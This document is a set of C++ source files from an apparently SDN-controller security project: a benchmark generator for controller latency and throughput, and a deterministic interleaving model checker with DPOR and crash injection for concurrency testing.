// violation ratio.
#pragma once

#include <chrono>
#include <cstdint>
#include <random>
#include <string>
#include <vector>

#include "cbench/retry.h"
#include "core/perm/api_call.h"
#include "core/perm/permission.h"
#include "switchsim/sim_network.h"

namespace sdnshield::cbench {

struct LatencyStats {
  double medianUs = 0;
  double p10Us = 0;
  double p90Us = 0;
  double meanUs = 0;
  std::size_t samples = 0;
  std::size_t timeouts = 0;
};

struct ThroughputStats {
  double responsesPerSec = 0;
  std::uint64_t totalResponses = 0;
  double durationSec = 0;
};

/// Drives an L2-learning-switch control loop: each round simulates a flow
/// arrival (idle-timeout-expired rule, fresh packet-in), and the response is
/// the controller's flow-mod + packet-out reaching the destination host.
class Generator {
 public:
  /// The network must have one host on port 1 of every switch (as built by
  /// SimNetwork::buildLinear).
  explicit Generator(sim::SimNetwork& network) : network_(network) {}

  /// Attaches a probe host (port 4) per switch and warms the controller's
  /// learning tables.
  void setup();

  /// One latency sample on one switch; empty on timeout.
  std::optional<std::chrono::nanoseconds> measureRound(
      of::DatapathId dpid, std::chrono::milliseconds timeout);

  /// Latency mode: rounds distributed round-robin over all switches, one
  /// outstanding request at a time.
  LatencyStats runLatency(std::size_t rounds,
                          std::chrono::milliseconds timeout =
                              std::chrono::milliseconds(1000));

  /// Pressure mode: every switch runs rounds back-to-back in parallel for
  /// the given duration. @p window > 1 sends that many flow arrivals
  /// back-to-back before waiting for the responses, so a pipelined
  /// controller (async northbound calls) can overlap the rounds; a
  /// synchronous controller serves the burst one round-trip at a time.
  ThroughputStats runThroughput(std::chrono::milliseconds duration,
                                std::size_t window = 1);

  /// One burst on one switch: @p window expire+send rounds back-to-back,
  /// then one wait for all responses. Returns how many arrived in time.
  std::size_t measureBurst(of::DatapathId dpid, std::size_t window,
                           std::chrono::milliseconds timeout);

  /// Opt-in round retry: a timed-out round (shed under pressure —
  /// kQueueFull/kDeadlineExceeded surface as missing responses here) is
  /// retried up to options.maxRetries times with exponential backoff before
  /// counting as a timeout. Default (maxRetries=0 via setRoundRetry never
  /// being called) keeps the historical one-shot behaviour; retries are
  /// counted under the "cbench.retry.rounds" obs counter.
  void setRoundRetry(const RetryOptions& options) { roundRetry_ = options; }

  /// Per-round response deadline used by runThroughput. The 200ms default
  /// suits a healthy controller; chaos campaigns shrink it so a round lost
  /// to an injected fault costs one deadline, not a fifth of a second.
  void setRoundTimeout(std::chrono::milliseconds timeout) {
    roundTimeout_ = timeout;
  }

  /// measureRound plus the configured round-retry policy.
  std::optional<std::chrono::nanoseconds> measureRoundRetrying(
      of::DatapathId dpid, std::chrono::milliseconds timeout);

 private:
  struct Probe {
    of::DatapathId dpid = 0;
    std::shared_ptr<sim::SimHost> probeHost;   // Injector (port 4).
    std::shared_ptr<sim::SimHost> targetHost;  // Observer (port 1).
    std::uint16_t rulePriority = 10;
  };

  sim::SimNetwork& network_;
  std::vector<Probe> probes_;
  RetryOptions roundRetry_{.maxRetries = 0};
  std::chrono::milliseconds roundTimeout_{200};
};

// --- Figure 5 workload ----------------------------------------------------------

/// Builds a synthetic manifest with @p tokenCount permission tokens, each
/// carrying between 10 and 20 singleton filters composed with AND/OR (the
/// paper's small=1 / medium=5 / large=15 manifests). @p primary is the
/// token granted first — the small (1-token) manifest grants exactly the
/// call type under measurement. Deterministic per seed.
perm::PermissionSet makeSyntheticManifest(
    std::size_t tokenCount, std::uint64_t seed,
    perm::Token primary = perm::Token::kInsertFlow);

/// An app behaviour trace of flow insertions and statistics requests where
/// @p violationRatio of the calls violate the manifest (paper: 5%).
std::vector<perm::ApiCall> makeSyntheticTrace(const perm::PermissionSet& manifest,
                                              std::size_t length,
                                              double violationRatio,
                                              std::uint64_t seed);

}  // namespace sdnshield::cbench
