#include <sstream>

#include "mck/mck.h"

namespace sdnshield::mck {

namespace {
constexpr std::string_view kHeader = "# mck schedule v1";
}  // namespace

std::string serializeSchedule(const std::vector<ScheduleStep>& steps) {
  std::ostringstream out;
  out << kHeader << "\n";
  for (const ScheduleStep& step : steps) {
    out << step.actor << "\t" << step.site << "\t"
        << (step.crash ? "crash" : "run") << "\n";
  }
  return out.str();
}

std::vector<ScheduleStep> parseSchedule(const std::string& text) {
  std::vector<ScheduleStep> steps;
  std::istringstream in(text);
  std::string line;
  while (std::getline(in, line)) {
    if (line.empty() || line[0] == '#') continue;
    std::size_t tab1 = line.find('\t');
    std::size_t tab2 =
        tab1 == std::string::npos ? std::string::npos
                                  : line.find('\t', tab1 + 1);
    if (tab1 == std::string::npos || tab2 == std::string::npos) {
      throw std::invalid_argument("mck schedule: expected 3 tab-separated "
                                  "fields, got: " +
                                  line);
    }
    ScheduleStep step;
    step.actor = line.substr(0, tab1);
    step.site = line.substr(tab1 + 1, tab2 - tab1 - 1);
    std::string mode = line.substr(tab2 + 1);
    if (mode != "run" && mode != "crash") {
      throw std::invalid_argument("mck schedule: unknown step mode: " + mode);
    }
    step.crash = mode == "crash";
    steps.push_back(std::move(step));
  }
  return steps;
}

std::string Result::formatTrace() const {
  std::ostringstream out;
  out << (violated ? "VIOLATION: " + message : std::string("no violation"))
      << "\n";
  std::size_t n = 0;
  for (const ScheduleStep& step : trace) {
    out << "  " << ++n << ". " << step.actor << " @ " << step.site;
    if (step.crash) out << " [crash]";
    out << "\n";
  }
  return out.str();
}

}  // namespace sdnshield::mck
