#include <algorithm>
#include <random>
#include <set>

#include "mck/virtual_scheduler.h"

namespace sdnshield::mck {

void Run::thread(std::string name, std::function<void()> body) {
  scheduler_.addThread(std::move(name), std::move(body));
}

void Run::finally(std::function<void()> check) {
  scheduler_.addFinally(std::move(check));
}

void yield(std::string_view site) {
  if (iso::VirtualExecutor* executor = iso::virtualExecutor()) {
    executor->schedulePoint(site);
  }
}

void require(bool ok, const std::string& message) {
  if (!ok) throw Violation(message);
}

namespace {

/// One decision point on the DFS stack. `done` holds option keys whose
/// subtrees are fully explored; `sleep` the keys asleep on entry (DPOR:
/// exploring them here would only produce traces Mazurkiewicz-equivalent
/// to ones already covered).
struct Node {
  std::vector<SchedOption> options;
  std::vector<std::string> keys;
  std::size_t chosen = 0;
  std::set<std::string> done;
  std::set<std::string> sleep;
};

std::vector<std::string> keysOf(const std::vector<SchedOption>& options) {
  std::vector<std::string> keys;
  keys.reserve(options.size());
  for (const SchedOption& option : options) keys.push_back(option.key());
  return keys;
}

/// Steps commute iff both are plain thread resumes of *different* actors
/// whose declared footprints touch different resources (or both only
/// read). Crash resumes and queue tasks are conservatively dependent with
/// everything, as are sites without a footprint.
bool independent(const Options& options, const SchedOption& a,
                 const SchedOption& b) {
  if (a.actor == b.actor) return false;  // Program order is never reordered.
  if (a.kind != SchedOption::Kind::kThread ||
      b.kind != SchedOption::Kind::kThread) {
    return false;
  }
  auto fa = options.footprint.find(a.site);
  auto fb = options.footprint.find(b.site);
  if (fa == options.footprint.end() || fb == options.footprint.end()) {
    return false;
  }
  if (fa->second.resource != fb->second.resource) return true;
  return !fa->second.write && !fb->second.write;
}

const SchedOption* findByKey(const Node& node, const std::string& key) {
  for (std::size_t i = 0; i < node.keys.size(); ++i) {
    if (node.keys[i] == key) return &node.options[i];
  }
  return nullptr;
}

struct ExecutionOutcome {
  bool violated = false;
  bool pruned = false;
  std::string message;
  std::vector<ScheduleStep> trace;
};

/// One full scenario execution under @p chooser: build the rig (setup runs
/// inline on this thread), drive to quiescence, run the finally checks,
/// tear the rig down — all with the scheduler installed as the process
/// executor.
ExecutionOutcome runExecution(const Options& options,
                              const Scenario& scenario,
                              const VirtualScheduler::Chooser& chooser) {
  VirtualScheduler scheduler(options);
  iso::setVirtualExecutor(&scheduler);
  Run run(scheduler);
  try {
    scenario(run);
  } catch (const Violation& violation) {
    scheduler.recordViolation(violation.what());
  } catch (const std::exception& error) {
    scheduler.recordViolation(std::string("mck: scenario setup failed: ") +
                              error.what());
  }
  if (!scheduler.violated()) scheduler.run(chooser);
  if (!scheduler.violated() && !scheduler.pruned()) scheduler.runFinally();
  scheduler.clearScenario();
  iso::setVirtualExecutor(nullptr);
  return {scheduler.violated(), scheduler.pruned(), scheduler.message(),
          scheduler.trace()};
}

}  // namespace

Explorer::Explorer(Options options) : options_(std::move(options)) {}

Result Explorer::explore(const Scenario& scenario) {
  Result result;

  if (options_.randomSeed != 0) {
    // Seeded-random fallback: uniform choice at every decision; never
    // exhaustive, but reproducible for a given seed + budget.
    for (std::size_t i = 0; i < options_.maxSchedules; ++i) {
      auto rng = std::make_shared<std::mt19937_64>(options_.randomSeed + i);
      ExecutionOutcome outcome = runExecution(
          options_, scenario,
          [rng](const std::vector<SchedOption>& options) -> std::size_t {
            return (*rng)() % options.size();
          });
      ++result.schedules;
      result.steps += outcome.trace.size();
      if (outcome.violated) {
        result.violated = true;
        result.message = outcome.message;
        result.trace = outcome.trace;
        return result;
      }
    }
    return result;
  }

  // Exhaustive DFS: re-execute from scratch per schedule, replaying the
  // decision prefix recorded on the stack, then extending at the frontier.
  std::vector<Node> stack;
  while (true) {
    if (result.schedules + result.prunedSchedules >= options_.maxSchedules) {
      return result;  // Budget spent; exhausted stays false.
    }
    auto depth = std::make_shared<std::size_t>(0);
    std::string divergence;
    auto chooser =
        [this, &stack, depth,
         &divergence](const std::vector<SchedOption>& options) -> std::size_t {
      std::size_t d = (*depth)++;
      if (d < stack.size()) {
        Node& node = stack[d];
        // Determinism check: the same prefix must enable the same options.
        if (keysOf(options) != node.keys) {
          divergence = "mck: nondeterministic replay at depth " +
                       std::to_string(d) +
                       " — scenario must be deterministic given a schedule";
          throw PruneExecution{};
        }
        return node.chosen;
      }
      Node node;
      node.options = options;
      node.keys = keysOf(options);
      if (options_.sleepSets && !stack.empty()) {
        const Node& parent = stack.back();
        const SchedOption& parentChoice = parent.options[parent.chosen];
        std::set<std::string> inherited = parent.sleep;
        inherited.insert(parent.done.begin(), parent.done.end());
        inherited.erase(parent.keys[parent.chosen]);
        for (const std::string& key : inherited) {
          const SchedOption* option = findByKey(parent, key);
          if (option && independent(options_, *option, parentChoice)) {
            node.sleep.insert(key);
          }
        }
      }
      std::size_t pick = options.size();
      for (std::size_t i = 0; i < options.size(); ++i) {
        if (!node.sleep.count(node.keys[i])) {
          pick = i;
          break;
        }
      }
      if (pick == options.size()) {
        // Every enabled option is asleep: this execution only re-orders
        // independent steps of an explored trace.
        throw PruneExecution{};
      }
      node.chosen = pick;
      stack.push_back(std::move(node));
      return pick;
    };

    ExecutionOutcome outcome = runExecution(options_, scenario, chooser);
    result.steps += outcome.trace.size();
    if (!divergence.empty()) {
      result.violated = true;
      result.message = divergence;
      result.trace = outcome.trace;
      return result;
    }
    if (outcome.pruned) {
      ++result.prunedSchedules;
    } else {
      ++result.schedules;
    }
    if (outcome.violated) {
      result.violated = true;
      result.message = outcome.message;
      result.trace = outcome.trace;
      return result;
    }

    // Backtrack: exhaust the deepest node that still has a fresh option.
    while (!stack.empty()) {
      Node& node = stack.back();
      node.done.insert(node.keys[node.chosen]);
      std::size_t next = node.options.size();
      for (std::size_t i = 0; i < node.options.size(); ++i) {
        if (!node.done.count(node.keys[i]) &&
            !node.sleep.count(node.keys[i])) {
          next = i;
          break;
        }
      }
      if (next != node.options.size()) {
        node.chosen = next;
        break;
      }
      stack.pop_back();
    }
    if (stack.empty()) {
      result.exhausted = true;
      return result;
    }
  }
}

Result Explorer::replay(const Scenario& scenario,
                        const std::vector<ScheduleStep>& schedule) {
  Result result;
  auto depth = std::make_shared<std::size_t>(0);
  ExecutionOutcome outcome = runExecution(
      options_, scenario,
      [&schedule, depth](const std::vector<SchedOption>& options)
          -> std::size_t {
        std::size_t d = (*depth)++;
        if (d < schedule.size()) {
          const ScheduleStep& step = schedule[d];
          for (std::size_t i = 0; i < options.size(); ++i) {
            bool isCrash = options[i].kind == SchedOption::Kind::kCrash;
            if (options[i].actor == step.actor &&
                options[i].site == step.site && isCrash == step.crash) {
              return i;
            }
          }
          // Drift fallback: prefer the same actor, else the first option.
          for (std::size_t i = 0; i < options.size(); ++i) {
            if (options[i].actor == step.actor) return i;
          }
        }
        return 0;
      });
  result.schedules = 1;
  result.steps = outcome.trace.size();
  result.violated = outcome.violated;
  result.message = outcome.message;
  result.trace = outcome.trace;
  return result;
}

}  // namespace sdnshield::mck
