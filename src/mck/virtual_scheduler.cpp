#include "mck/virtual_scheduler.h"

#include <algorithm>
#include <sstream>

#include "isolation/fault_injector.h"

namespace sdnshield::mck {

namespace {

/// The logical thread the current OS thread embodies (nullptr on the
/// explorer thread and on threads the scheduler does not own).
thread_local void* tlsThread = nullptr;

/// Depth of inline task execution on this thread. While positive, schedule
/// points do not park: the running queue task (or drained stop/teardown
/// work) is part of the enclosing step.
thread_local int tlsInlineDepth = 0;

struct InlineDepthGuard {
  InlineDepthGuard() { ++tlsInlineDepth; }
  ~InlineDepthGuard() { --tlsInlineDepth; }
};

}  // namespace

VirtualScheduler::~VirtualScheduler() {
  enterFreeRun();
  for (auto& t : threads_) {
    if (t->thread.joinable()) t->thread.join();
  }
}

void VirtualScheduler::addThread(std::string name,
                                 std::function<void()> body) {
  auto t = std::make_unique<LThread>();
  t->name = std::move(name);
  t->body = std::move(body);
  threads_.push_back(std::move(t));
}

void VirtualScheduler::addFinally(std::function<void()> check) {
  finally_.push_back(std::move(check));
}

void VirtualScheduler::recordViolation(const std::string& message) {
  std::lock_guard lock(mutex_);
  if (violated_) return;  // First violation wins; later ones are fallout.
  violated_ = true;
  message_ = message;
}

void VirtualScheduler::threadMain(LThread* t) {
  tlsThread = t;
  {
    std::unique_lock lock(mutex_);
    parkLocked(lock, t, "spawn", nullptr);
  }
  try {
    t->body();
  } catch (const Violation& violation) {
    recordViolation(violation.what());
  } catch (const std::exception& error) {
    recordViolation("mck: unhandled exception escaped thread " + t->name +
                    ": " + error.what());
  } catch (...) {
    recordViolation("mck: unhandled exception escaped thread " + t->name);
  }
  {
    std::lock_guard lock(mutex_);
    t->state = LThread::State::kDone;
  }
  schedCv_.notify_all();
  tlsThread = nullptr;
}

bool VirtualScheduler::parkLocked(std::unique_lock<std::mutex>& lock,
                                  LThread* t, std::string site,
                                  std::function<bool()> ready) {
  t->site = std::move(site);
  t->blockedReady = std::move(ready);
  t->state = t->blockedReady ? LThread::State::kBlocked
                             : LThread::State::kParked;
  t->go = false;
  schedCv_.notify_all();
  threadCv_.wait(lock, [&] { return t->go || mode_ == Mode::kFreeRun; });
  t->go = false;
  t->state = LThread::State::kRunning;
  t->blockedReady = nullptr;
  bool crash = t->crashOnResume;
  t->crashOnResume = false;
  return crash && mode_ == Mode::kControlled;
}

void VirtualScheduler::schedulePoint(std::string_view site) {
  auto* t = static_cast<LThread*>(tlsThread);
  if (!t || tlsInlineDepth > 0) return;
  std::unique_lock lock(mutex_);
  if (mode_ != Mode::kControlled) return;
  bool crash = parkLocked(lock, t, std::string(site), nullptr);
  if (crash) {
    std::string at = t->site;
    lock.unlock();
    throw iso::FaultInjected(at);
  }
}

void VirtualScheduler::await(const std::function<bool()>& ready,
                             std::string_view what) {
  auto* t = static_cast<LThread*>(tlsThread);
  std::unique_lock lock(mutex_);
  if (t && tlsInlineDepth == 0 && mode_ == Mode::kControlled) {
    if (ready()) return;
    parkLocked(lock, t, "await:" + std::string(what), ready);
    if (mode_ == Mode::kControlled) return;  // Resumed: predicate held.
    // Free-run woke us with the predicate possibly false; fall through to
    // the self-draining loop below.
  }
  // Inline execution (setup, finally, teardown drains) or free-run: the
  // caller itself drives queue tasks until the predicate holds.
  std::size_t idleSpins = 0;
  while (!ready()) {
    if (runOneInlineTaskLocked(lock)) {
      idleSpins = 0;
      continue;
    }
    if (mode_ == Mode::kFreeRun) {
      // Other (released) threads may still produce progress; poll politely
      // and eventually bail — await is best effort and callers re-check.
      lock.unlock();
      std::this_thread::yield();
      lock.lock();
      if (++idleSpins > 1000000) return;
      continue;
    }
    throw Violation("mck: await(" + std::string(what) +
                    ") cannot make progress during inline execution");
  }
}

void VirtualScheduler::registerQueue(const void* tag, std::string label) {
  std::lock_guard lock(mutex_);
  TaskQueue queue;
  // Uniquified label: re-created actors (a re-spawned container for the
  // same app) must not collide in DPOR bookkeeping or traces.
  queue.label = label + "#" + std::to_string(++queueSeq_);
  queues_.emplace(tag, std::move(queue));
  queueOrder_.push_back(tag);
}

void VirtualScheduler::unregisterQueue(const void* tag) {
  std::deque<std::function<void()>> orphans;
  {
    std::lock_guard lock(mutex_);
    auto it = queues_.find(tag);
    if (it == queues_.end()) return;
    orphans.swap(it->second.tasks);
    queues_.erase(it);
    std::erase(queueOrder_, tag);
  }
  // Destroy outside the lock: task destructors break promises, which may
  // run arbitrary waiter-side code.
  orphans.clear();
}

bool VirtualScheduler::enqueue(const void* tag, std::function<void()> task) {
  std::lock_guard lock(mutex_);
  auto it = queues_.find(tag);
  if (it == queues_.end() || it->second.sealed) return false;
  it->second.tasks.push_back(std::move(task));
  return true;
}

void VirtualScheduler::drainQueue(const void* tag) {
  std::unique_lock lock(mutex_);
  while (true) {
    auto it = queues_.find(tag);
    if (it == queues_.end() || it->second.tasks.empty()) return;
    std::function<void()> task = std::move(it->second.tasks.front());
    it->second.tasks.pop_front();
    lock.unlock();
    {
      InlineDepthGuard guard;
      task();
    }
    lock.lock();
  }
}

void VirtualScheduler::discardQueue(const void* tag) {
  std::deque<std::function<void()>> discarded;
  {
    std::lock_guard lock(mutex_);
    auto it = queues_.find(tag);
    if (it == queues_.end()) return;
    discarded.swap(it->second.tasks);
    it->second.sealed = true;
  }
  discarded.clear();  // Broken promises fire outside the lock.
}

bool VirtualScheduler::runOneInlineTaskLocked(
    std::unique_lock<std::mutex>& lock) {
  for (const void* tag : queueOrder_) {
    auto it = queues_.find(tag);
    if (it == queues_.end() || it->second.tasks.empty()) continue;
    std::function<void()> task = std::move(it->second.tasks.front());
    it->second.tasks.pop_front();
    lock.unlock();
    {
      InlineDepthGuard guard;
      task();
    }
    lock.lock();
    return true;
  }
  return false;
}

void VirtualScheduler::promoteBlockedLocked() {
  for (auto& t : threads_) {
    if (t->state != LThread::State::kBlocked) continue;
    if (t->blockedReady && t->blockedReady()) {
      // The resume itself stays a scheduling choice; only the readiness is
      // decided here.
      t->state = LThread::State::kParked;
      t->blockedReady = nullptr;
    }
  }
}

std::vector<SchedOption> VirtualScheduler::enabledOptionsLocked() {
  std::vector<SchedOption> options;
  bool crashBudget = crashesTaken_ < options_.maxCrashes;
  for (std::size_t i = 0; i < threads_.size(); ++i) {
    LThread& t = *threads_[i];
    if (t.state != LThread::State::kParked) continue;
    options.push_back(
        {SchedOption::Kind::kThread, i, "T:" + t.name, t.site});
    if (crashBudget &&
        std::find(options_.crashSites.begin(), options_.crashSites.end(),
                  t.site) != options_.crashSites.end()) {
      options.push_back(
          {SchedOption::Kind::kCrash, i, "T:" + t.name, t.site});
    }
  }
  for (std::size_t i = 0; i < queueOrder_.size(); ++i) {
    auto it = queues_.find(queueOrder_[i]);
    if (it == queues_.end() || it->second.tasks.empty()) continue;
    options.push_back(
        {SchedOption::Kind::kQueue, i, "Q:" + it->second.label, "task"});
  }
  return options;
}

void VirtualScheduler::executeOption(const SchedOption& option) {
  if (option.kind == SchedOption::Kind::kQueue) {
    std::unique_lock lock(mutex_);
    if (option.index >= queueOrder_.size()) return;
    auto it = queues_.find(queueOrder_[option.index]);
    if (it == queues_.end() || it->second.tasks.empty()) return;
    std::function<void()> task = std::move(it->second.tasks.front());
    it->second.tasks.pop_front();
    lock.unlock();
    try {
      InlineDepthGuard guard;
      task();
    } catch (const Violation& violation) {
      recordViolation(violation.what());
    } catch (const std::exception& error) {
      // Queue tasks are containment-wrapped by their owners; anything
      // escaping is a harness-level failure worth surfacing.
      recordViolation(std::string("mck: queue task threw: ") + error.what());
    }
    return;
  }
  LThread& t = *threads_[option.index];
  std::unique_lock lock(mutex_);
  t.state = LThread::State::kRunning;
  t.go = true;
  t.crashOnResume = option.kind == SchedOption::Kind::kCrash;
  if (t.crashOnResume) ++crashesTaken_;
  threadCv_.notify_all();
  bool yielded = schedCv_.wait_for(lock, options_.stepTimeout, [&] {
    return t.state != LThread::State::kRunning || mode_ == Mode::kFreeRun;
  });
  if (!yielded) {
    violated_ = true;
    if (message_.empty()) {
      message_ = "mck: thread " + t.name +
                 " did not yield within the step timeout (resumed at " +
                 option.site + ")";
    }
  }
}

void VirtualScheduler::enterFreeRun() {
  {
    std::lock_guard lock(mutex_);
    mode_ = Mode::kFreeRun;
  }
  threadCv_.notify_all();
  schedCv_.notify_all();
}

void VirtualScheduler::run(const Chooser& chooser) {
  if (started_) return;
  started_ = true;
  {
    std::unique_lock lock(mutex_);
    for (auto& t : threads_) {
      LThread* raw = t.get();
      t->thread = std::thread([this, raw] { threadMain(raw); });
    }
    schedCv_.wait(lock, [&] {
      for (auto& t : threads_) {
        if (t->state == LThread::State::kStarting) return false;
      }
      return true;
    });
  }
  while (true) {
    std::vector<SchedOption> options;
    {
      std::lock_guard lock(mutex_);
      if (violated_) break;
      promoteBlockedLocked();
      options = enabledOptionsLocked();
      if (options.empty()) {
        bool allDone = true;
        std::ostringstream stuck;
        for (auto& t : threads_) {
          if (t->state == LThread::State::kDone) continue;
          allDone = false;
          stuck << " " << t->name << "@" << t->site;
        }
        if (!allDone) {
          violated_ = true;
          message_ = "mck: model deadlock — blocked threads:" + stuck.str();
        }
        break;  // Quiescent (or deadlocked).
      }
      if (trace_.size() >= options_.maxSteps) {
        violated_ = true;
        message_ = "mck: step bound exceeded (" +
                   std::to_string(options_.maxSteps) + ")";
        break;
      }
    }
    std::size_t pick;
    try {
      pick = chooser(options);
    } catch (const PruneExecution&) {
      pruned_ = true;
      break;
    } catch (const std::exception& error) {
      recordViolation(std::string("mck: chooser failed: ") + error.what());
      break;
    }
    const SchedOption& option = options[pick % options.size()];
    executeOption(option);
    {
      std::lock_guard lock(mutex_);
      trace_.push_back({option.actor, option.site,
                        option.kind == SchedOption::Kind::kCrash});
    }
  }
  enterFreeRun();
  for (auto& t : threads_) {
    if (t->thread.joinable()) t->thread.join();
  }
}

void VirtualScheduler::runFinally() {
  for (const auto& check : finally_) {
    try {
      check();
    } catch (const Violation& violation) {
      recordViolation(violation.what());
      return;
    } catch (const std::exception& error) {
      recordViolation(std::string("mck: finally check threw: ") +
                      error.what());
      return;
    }
  }
}

void VirtualScheduler::clearScenario() {
  // Closures own the scenario rig; destroying them tears it down while this
  // executor is still installed (container/deputy shutdown drains through
  // the seam above).
  threads_.clear();
  finally_.clear();
}

}  // namespace sdnshield::mck
