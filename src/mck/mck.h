// Deterministic interleaving explorer for small concurrency scenarios
// (DESIGN.md §12). A scenario registers a handful of logical threads; the
// explorer runs the scenario repeatedly, each time driving every thread
// (and every container/deputy task queue, via the isolation/executor.h
// seam) through a different interleaving chosen at the instrumented
// schedule points — the FaultInjector sites plus explicit mck::yield()
// calls. Exploration is a depth-first walk of the decision tree with
// sleep-set partial-order reduction (DPOR), falling back to seeded-random
// sampling for state spaces too large to exhaust.
//
// Crash-replay exploration: sites listed in Options::crashSites gain a
// second resume choice — "this resume throws iso::FaultInjected" — so a
// crash at *every* firing of every journal fault site is explored, not
// just the first firing an armed fault would hit.
//
// Invariants are asserted with mck::require() inside scenario threads (or
// post-quiescence checks registered with Run::finally); a failure stops
// exploration and Result carries the violating schedule, replayable with
// Explorer::replay and printable with Result::formatTrace.
#pragma once

#include <chrono>
#include <cstdint>
#include <functional>
#include <map>
#include <stdexcept>
#include <string>
#include <string_view>
#include <vector>

namespace sdnshield::mck {

/// Thrown by mck::require inside scenario code; the scheduler converts it
/// into a violation (never let it escape into product code that would
/// contain it).
struct Violation : std::runtime_error {
  using std::runtime_error::runtime_error;
};

/// What a schedule-point site reads/writes, for DPOR independence: two
/// steps commute when they touch different resources, or both only read
/// the same one. Sites absent from Options::footprint are treated as
/// dependent with everything (sound but unreduced).
struct Footprint {
  std::string resource;
  bool write = true;
};

struct Options {
  /// Exploration budget: completed + pruned executions before giving up
  /// (Result::exhausted stays false when the budget ran out).
  std::size_t maxSchedules = 20000;
  /// Per-execution step bound; exceeding it is reported as a violation
  /// (runaway scenario), not silently truncated.
  std::size_t maxSteps = 400;
  /// Sleep-set partial-order reduction (on by default). Turning it off
  /// explores the full tree — useful to cross-check reduction soundness.
  bool sleepSets = true;
  /// Non-zero: seeded-random sampling instead of exhaustive DFS. Each of
  /// the maxSchedules executions draws choices from mt19937_64(seed + i).
  std::uint64_t randomSeed = 0;
  /// Crash budget per execution (0 disables crash choices). With budget 1,
  /// every single-crash schedule is explored — the crash-replay coverage
  /// the market journal needs.
  std::size_t maxCrashes = 0;
  /// Sites whose resume may crash (throw iso::FaultInjected).
  std::vector<std::string> crashSites;
  /// Site -> read/write footprint for DPOR (see Footprint).
  std::map<std::string, Footprint> footprint;
  /// Wall-clock guard for one scheduler step: a resumed thread that fails
  /// to yield within this window is reported instead of wedging the test.
  std::chrono::milliseconds stepTimeout{10000};
};

/// One executed step of a schedule: which actor ran and where it parked.
struct ScheduleStep {
  std::string actor;  ///< "T:<thread name>" or "Q:<queue label>".
  std::string site;   ///< Park site, or "task" for a queue step.
  bool crash = false; ///< This resume threw iso::FaultInjected.
};

/// Text form of a schedule (one step per line, tab-separated), stable for
/// checking counterexamples into tests/data/.
std::string serializeSchedule(const std::vector<ScheduleStep>& steps);
std::vector<ScheduleStep> parseSchedule(const std::string& text);

struct Result {
  std::size_t schedules = 0;       ///< Executions run to completion.
  std::size_t prunedSchedules = 0; ///< Executions cut short by sleep sets.
  std::size_t steps = 0;           ///< Total steps across all executions.
  bool exhausted = false;          ///< DFS covered the whole tree.
  bool violated = false;
  std::string message;             ///< Violation (or scheduler error) text.
  std::vector<ScheduleStep> trace; ///< The violating schedule.
  /// Human-readable numbered step list of the violating schedule.
  std::string formatTrace() const;
};

class VirtualScheduler;

/// Scenario construction surface: the scenario callback receives a fresh
/// Run per execution and registers its logical threads and final checks
/// against a rig it builds itself (typically held in shared_ptrs captured
/// by the closures).
class Run {
 public:
  explicit Run(VirtualScheduler& scheduler) : scheduler_(scheduler) {}

  /// Registers a logical thread the scheduler owns. Bodies run with every
  /// instrumented site acting as a preemption point; everything between
  /// two sites is one atomic step.
  void thread(std::string name, std::function<void()> body);
  /// Registers a check that runs once the scenario is quiescent (all
  /// threads done, all queues empty). Runs inline; queue work it triggers
  /// (e.g. journal recovery spinning up containers) executes eagerly.
  void finally(std::function<void()> check);

 private:
  VirtualScheduler& scheduler_;
};

using Scenario = std::function<void(Run&)>;

/// Voluntary schedule point for scenario threads, in addition to the
/// FaultInjector sites. No-op outside a model-checking run.
void yield(std::string_view site);

/// Invariant assertion for scenario threads and finally checks.
void require(bool ok, const std::string& message);

class Explorer {
 public:
  explicit Explorer(Options options = {});

  /// Systematically explores @p scenario until the decision tree is
  /// exhausted, the budget is spent, or an invariant fails.
  Result explore(const Scenario& scenario);

  /// Re-executes @p scenario once under a pinned schedule. At each decision
  /// the matching (actor, site, crash) option is chosen; if drift has made
  /// it unavailable the first enabled option is taken, so a checked-in
  /// counterexample keeps replaying something sensible as code evolves.
  Result replay(const Scenario& scenario,
                const std::vector<ScheduleStep>& schedule);

 private:
  Options options_;
};

}  // namespace sdnshield::mck
