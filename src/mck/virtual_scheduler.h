// Internal to src/mck: the cooperative scheduler behind Explorer. One
// execution = real std::threads for the scenario's logical threads, but
// only ever ONE runnable at a time — every other thread is parked on a
// condvar handshake at its last schedule point. Container/deputy task
// queues (registered through the iso::VirtualExecutor seam) are additional
// actors whose queued tasks run inline on the scheduler thread, one task
// per step, in the actor-model style of the SDN model-checking literature.
#pragma once

#include <condition_variable>
#include <deque>
#include <functional>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "isolation/executor.h"
#include "mck/mck.h"

namespace sdnshield::mck {

/// One enabled choice at a decision point.
struct SchedOption {
  enum class Kind {
    kThread,  ///< Resume a parked logical thread.
    kCrash,   ///< Resume it with an injected crash (throws FaultInjected).
    kQueue,   ///< Run the front task of a registered queue.
  };
  Kind kind = Kind::kThread;
  std::size_t index = 0;  ///< threads_ index (kThread/kCrash) or queue slot.
  std::string actor;      ///< "T:<name>" or "Q:<label>".
  std::string site;       ///< Park site; "task" for queue steps.

  /// Canonical identity for DPOR done/sleep bookkeeping.
  std::string key() const {
    std::string k = actor + "@" + site;
    if (kind == Kind::kCrash) k += "!crash";
    return k;
  }
};

/// Thrown by a chooser to abandon an execution whose every enabled option
/// is asleep (the trace is equivalent to one already explored).
struct PruneExecution {};

class VirtualScheduler final : public iso::VirtualExecutor {
 public:
  /// Picks the index of the next option. May throw PruneExecution.
  using Chooser = std::function<std::size_t(const std::vector<SchedOption>&)>;

  explicit VirtualScheduler(const Options& options) : options_(options) {}
  ~VirtualScheduler() override;

  // --- scenario surface (via Run) ------------------------------------------
  void addThread(std::string name, std::function<void()> body);
  void addFinally(std::function<void()> check);

  /// Drives the registered threads and queues to quiescence under
  /// @p chooser, then releases every thread (free-run) and joins.
  void run(const Chooser& chooser);
  /// Runs the finally checks inline. Call after run().
  void runFinally();
  /// Destroys the scenario closures (and whatever rig they own) while this
  /// executor is still installed, so teardown drains through the seam.
  void clearScenario();

  bool violated() const { return violated_; }
  bool pruned() const { return pruned_; }
  const std::string& message() const { return message_; }
  const std::vector<ScheduleStep>& trace() const { return trace_; }

  void recordViolation(const std::string& message);

  // --- iso::VirtualExecutor -------------------------------------------------
  void registerQueue(const void* tag, std::string label) override;
  void unregisterQueue(const void* tag) override;
  bool enqueue(const void* tag, std::function<void()> task) override;
  void drainQueue(const void* tag) override;
  void discardQueue(const void* tag) override;
  void await(const std::function<bool()>& ready,
             std::string_view what) override;
  void schedulePoint(std::string_view site) override;

 private:
  struct LThread {
